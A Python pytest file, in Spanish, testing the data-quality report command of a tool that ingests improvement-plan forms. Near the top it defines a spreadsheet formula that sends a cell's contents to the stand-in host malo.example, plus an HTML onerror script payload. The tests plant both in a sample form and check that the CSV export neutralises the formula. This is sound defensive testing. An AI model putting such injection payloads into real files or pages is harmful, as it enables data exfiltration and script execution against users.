"""`planmejora calidad` on a database loaded from real copies of the form, as the control office runs it."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docx
import pytest
from openpyxl import load_workbook
from sqlalchemy import create_engine, text
from typer.testing import CliRunner, Result

from planmejora.calidad import Filtros, leer_reporte
from planmejora.cli import app
from planmejora.ingesta import ingerir

PLANMEJORA = str(Path(sys.executable).parent / "planmejora")
MUESTRAS = Path(__file__).parents[2] / "muestras"
HIPERVINCULO = '=HYPERLINK("http://malo.example/?d="&A1,"Ver anexo")'
DEPENDENCIA_HOSTIL = "<img src=x onerror=alert(1)>Hacienda"
CORTE_LEJANO = "2100-01-01"


def copia_hostil(destino: Path) -> Path:
    """A copy of a sample whose cells hold a spreadsheet formula and markup, as a careless or hostile hand may type."""
    documento = docx.Document(str(MUESTRAS / "tamboral_2022.docx"))
    for tabla in documento.tables:
        for fila in tabla.rows:
            for celda in fila.cells:
                if celda.text == "Ver anexo 3":
                    celda.text = HIPERVINCULO
                elif celda.text == "Secretaría de Hacienda":
                    celda.text = DEPENDENCIA_HOSTIL
    ruta = destino / "tamboral_hostil.docx"
    documento.save(str(ruta))
    return ruta


def construir_base(carpeta: Path, url: str | None = None) -> str:
    """A database loaded through the library API from the Word and Excel samples, a hostile copy and bad files."""
    copias = carpeta / "copias"
    copias.mkdir()
    for muestra in [*MUESTRAS.glob("*.docx"), *MUESTRAS.glob("*.xlsx")]:
        if muestra.name != "tamboral_2022.docx":
            shutil.copy2(muestra, copias / muestra.name)
    copia_hostil(copias)
    shutil.copy2(MUESTRAS / "danados" / "memorando.docx", copias / "memorando.docx")
    (copias / "vacio.pdf").write_bytes(b"")
    url = url or f"sqlite:///{carpeta / 'planes.db'}"
    ingerir([copias], url)
    return url


def consultar(url: str, consulta: str) -> list[Any]:
    motor = create_engine(url.replace("postgresql://", "postgresql+psycopg://"))
    try:
        with motor.begin() as conexion:
            resultado = conexion.execute(text(consulta))
            return [tuple(fila) for fila in resultado] if resultado.returns_rows else []
    finally:
        motor.dispose()


def cifras_de_la_base(url: str) -> dict[str, int]:
    """What SQL alone says, to hold the report to (vencidas: every action not closed that has an end date)."""
    uno = {
        "documentos": "SELECT COUNT(*) FROM documentos",
        "ilegibles": "SELECT COUNT(*) FROM v_documentos WHERE estado = 'error' AND actual",
        "acciones": "SELECT COUNT(*) FROM v_hallazgos",
        "planes": "SELECT COUNT(*) FROM planes",
        "problemas": "SELECT COUNT(*) FROM v_problemas WHERE actual",
        "vencidas": "SELECT COUNT(*) FROM v_hallazgos "
        "WHERE (estado_accion IS NULL OR estado_accion <> 'cerrada') AND fecha_terminacion IS NOT NULL",
    }
    return {clave: int(consultar(url, consulta)[0][0]) for clave, consulta in uno.items()}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> str:
    return construir_base(tmp_path_factory.mktemp("calidad"))


def correr(*argumentos: str, entorno: dict[str, str] | None = None) -> Result:
    """The verb in this process, as typed after `planmejora calidad`."""
    return CliRunner().invoke(app, ["calidad", *argumentos], env={"COLUMNS": "120", "NO_COLOR": "1", **(entorno or {})})


def correr_instalado(*argumentos: str) -> subprocess.CompletedProcess[str]:
    """The installed command, to see what a user sees when something goes wrong: never a traceback."""
    variables = {**os.environ, "COLUMNS": "120", "NO_COLOR": "1"}
    return subprocess.run(
        [PLANMEJORA, "calidad", *argumentos], capture_output=True, text=True, timeout=120, env=variables, check=False
    )


def test_el_reporte_cuenta_lo_mismo_que_la_base_en_sqlite_y_postgresql(url_db: str, tmp_path: Path) -> None:
    construir_base(tmp_path, url_db)
    reporte = leer_reporte(url_db, Filtros(), dt.date.fromisoformat(CORTE_LEJANO))
    cifras = cifras_de_la_base(url_db)
    assert cifras["problemas"] > 10 and cifras["ilegibles"] >= 1 and cifras["vencidas"] > 0
    assert {
        "documentos": reporte.documentos,
        "ilegibles": len(reporte.ilegibles),
        "acciones": len(reporte.acciones),
        "planes": reporte.planes,
        "problemas": len(reporte.problemas),
        "vencidas": len(reporte.vencidas),
    } == cifras
    assert any(p.raw == HIPERVINCULO for p in reporte.problemas)
    assert all(isinstance(a.fecha_terminacion, dt.date | None) for a in reporte.acciones)


def test_csv_una_fila_por_problema_con_ubicacion_y_sin_formulas(base: str, tmp_path: Path) -> None:
    salida = tmp_path / "calidad.csv"
    resultado = correr("--db", base, "--salida", str(salida))
    assert resultado.exit_code == 0, resultado.stderr
    with salida.open(encoding="utf-8-sig", newline="") as archivo:
        filas = list(csv.DictReader(archivo))
    assert len(filas) == cifras_de_la_base(base)["problemas"]
    assert list(filas[0]) == ["archivo", "ubicacion", "campo", "codigo", "raw", "valor", "mensaje"]
    hostil = next(f for f in filas if HIPERVINCULO in f["raw"])
    assert hostil["raw"] == "'" + HIPERVINCULO
    assert hostil["codigo"] == "valor_desconocido" and hostil["ubicacion"] == "tabla de hallazgos, fila 8"
    excel = next(f for f in filas if f["archivo"].endswith("sabana_alta_2021.xlsx") and f["campo"].startswith("hall"))
    assert excel["ubicacion"].startswith("hoja «") and ", fila " in excel["ubicacion"]
    assert all(f["mensaje"] for f in filas)


def test_xlsx_con_resumen_y_detalle(base: str, tmp_path: Path) -> None:
    salida = tmp_path / "calidad.xlsx"
    assert correr("--db", base, "--salida", str(salida), "--corte", CORTE_LEJANO).exit_code == 0
    libro = load_workbook(salida)
    resumen = {f[0]: f[1] for f in libro["Resumen"].iter_rows(values_only=True) if f and f[0]}
    cifras = cifras_de_la_base(base)
    assert resumen["Problemas"] == cifras["problemas"] and resumen["Acciones vencidas"] == cifras["vencidas"]
    assert libro["Problemas"].max_row == 1 + cifras["problemas"]


def test_el_resumen_en_la_terminal_da_las_cifras(base: str) -> None:
    resultado = correr("--db", base, "--corte", CORTE_LEJANO)
    assert resultado.exit_code == 0
    cifras = cifras_de_la_base(base)
    assert f"{cifras['problemas']} problemas" in resultado.stdout
    assert f"{cifras['vencidas']} vencidas" in resultado.stdout
    assert "--salida calidad.html" in resultado.stdout


def test_falla_si_sale_con_1_solo_cuando_hay_problemas_de_ese_codigo(base: str) -> None:
    hay = correr("--db", base, "--falla-si", "fecha_invalida")
    assert hay.exit_code == 1 and "fecha_invalida" in hay.stderr
    assert correr("--db", base, "--falla-si", "fecha_invalida", "--falla-si", "fechas_invertidas").exit_code == 1
    assert correr("--db", base, "--falla-si", "ocr_baja_confianza").exit_code == 0
    assert correr("--db", base, "--falla-si", "ocr_baja_confianza,fecha_invalida").exit_code == 1


def test_un_codigo_mal_escrito_es_uso_incorrecto(base: str) -> None:
    resultado = correr("--db", base, "--falla-si", "fecha_invalda")
    assert resultado.exit_code == 2
    assert "fecha_invalda" in resultado.stderr and "fecha_invalida" in resultado.stderr


def test_los_filtros_reducen_el_reporte(base: str, tmp_path: Path) -> None:
    def filas(*filtros: str) -> list[dict[str, str]]:
        salida = tmp_path / "filtrado.csv"
        assert correr("--db", base, "--salida", str(salida), *filtros).exit_code == 0
        with salida.open(encoding="utf-8-sig", newline="") as archivo:
            return list(csv.DictReader(archivo))

    todas = filas()
    inferidas = filas("--codigo", "fecha_inferida")
    assert 0 < len(inferidas) < len(todas) and {f["codigo"] for f in inferidas} == {"fecha_inferida"}
    de_planeacion = filas("--dependencia", "PLANEACION")
    assert 0 < len(de_planeacion) < len(todas)
    de_calica = filas("--entidad", "CÁLICA")
    assert 0 < len(de_calica) < len(todas)
    assert filas("--desde", "2030-01-01") == []
    assert len(filas("--desde", "01/01/2000", "--hasta", "2030-12-31")) < len(todas)


def test_una_base_que_no_existe_se_explica_y_no_se_crea(tmp_path: Path) -> None:
    ruta = tmp_path / "no_existe.db"
    resultado = correr_instalado("--db", f"sqlite:///{ruta}")
    assert resultado.returncode == 2
    assert "No existe la base de datos" in resultado.stderr and "planmejora ingerir" in resultado.stderr
    assert "Traceback" not in resultado.stderr
    assert not ruta.exists()


def test_la_base_sale_de_la_variable_de_entorno(base: str, tmp_path: Path) -> None:
    assert correr(entorno={"PLANMEJORA_DB": base}).exit_code == 0
    assert correr(entorno={"PLANMEJORA_DB": f"sqlite:///{tmp_path / 'otra.db'}"}).exit_code == 2


def test_una_base_sin_datos_de_planmejora_o_vacia_sale_con_1(tmp_path: Path) -> None:
    ajena = tmp_path / "ajena.db"
    consultar(f"sqlite:///{ajena}", "CREATE TABLE otra (x INTEGER)")
    resultado = correr("--db", f"sqlite:///{ajena}")
    assert resultado.exit_code == 1 and "no tiene datos de planmejora" in resultado.stderr

    vacia = f"sqlite:///{tmp_path / 'vacia.db'}"
    ingerir([], vacia)
    instalado = correr_instalado("--db", vacia, "--salida", str(tmp_path / "r.html"))
    assert instalado.returncode == 1 and "no tiene documentos" in instalado.stderr
    assert "Traceback" not in instalado.stderr and not (tmp_path / "r.html").exists()


@pytest.mark.parametrize(
    ("argumentos", "dice"),
    [
        (("--corte", "31/31/2024"), "no es una fecha"),
        (("--salida", "reporte.pdf"), ".html, .xlsx ni .csv"),
        (("--desde", "2023-01-01", "--hasta", "2022-01-01"), "posterior"),
        (("--db", "mysql://servidor/base"), "no está soportada"),
    ],
)
def test_una_orden_mal_escrita_sale_con_2_y_lo_dice(base: str, argumentos: tuple[str, ...], dice: str) -> None:
    resultado = correr(*(("--db", base) if "--db" not in argumentos else ()), *argumentos)
    assert resultado.exit_code == 2
    assert dice in resultado.stderr and "Traceback" not in resultado.stderr


def test_la_ayuda_esta_en_espanol_con_ejemplos() -> None:
    resultado = correr("--help")
    assert resultado.exit_code == 0
    for texto in ("Ejemplos", "--falla-si", "--corte", "--entidad", "--dependencia", "--desde", "--hasta", "--codigo"):
        assert texto in resultado.stdout


def test_un_servidor_que_no_responde_se_explica_sin_mostrar_la_clave() -> None:
    resultado = correr("--db", "postgresql://control:secreta@127.0.0.1:1/planes")
    assert resultado.exit_code == 1
    assert "No se pudo leer la base de datos" in resultado.stderr
    assert "secreta" not in resultado.stderr + resultado.stdout


@contextlib.contextmanager
def carpeta_de_solo_lectura(carpeta: Path) -> Iterator[None]:
    """`carpeta` as a shared folder mounted read-only: nobody here can create a file in it, root included."""
    if os.geteuid() == 0:
        if shutil.which("chattr") is None or subprocess.run(["chattr", "+i", carpeta], check=False).returncode:
            pytest.skip("como root, solo chattr +i impide escribir en la carpeta, y aquí no se puede")
        try:
            yield
        finally:
            subprocess.run(["chattr", "-i", carpeta], check=True)
        return
    carpeta.chmod(0o555)
    try:
        yield
    finally:
        carpeta.chmod(0o755)


def test_una_base_sqlite_en_una_carpeta_de_solo_lectura_se_puede_reportar(tmp_path: Path) -> None:
    """Regression (issue 12): a WAL database cannot make its shared-memory file there, and calidad could not read it."""
    url = construir_base(tmp_path)
    esperado = correr("--db", url, "--corte", CORTE_LEJANO)
    with carpeta_de_solo_lectura(tmp_path):
        resultado = correr("--db", url, "--corte", CORTE_LEJANO)
        assert resultado.exit_code == 0, resultado.stderr
        assert sorted(p.name for p in tmp_path.iterdir()) == ["copias", "planes.db"]
    assert resultado.stdout == esperado.stdout


def test_la_sugerencia_del_reporte_completo_conserva_la_base_usada(base: str) -> None:
    """Regression (issue 12): the hint dropped `--db`, so following it read another (or no) database."""
    resultado = correr("--db", base)
    assert f"planmejora calidad --db {base} --salida calidad.html" in " ".join(resultado.stdout.split())


def test_una_dependencia_que_no_coincide_lo_dice_y_nombra_las_que_hay(base: str) -> None:
    """Regression (issue 12): `--dependencia X` matching nothing ended in silent success."""
    resultado = correr("--db", base, "--dependencia", "Dependencia que no existe")
    aviso = " ".join(resultado.stderr.split())
    assert "ninguna acción ni problema es de una dependencia que contenga «Dependencia que no existe»" in aviso
    assert "Las dependencias de la base son:" in aviso and "Planeación" in aviso
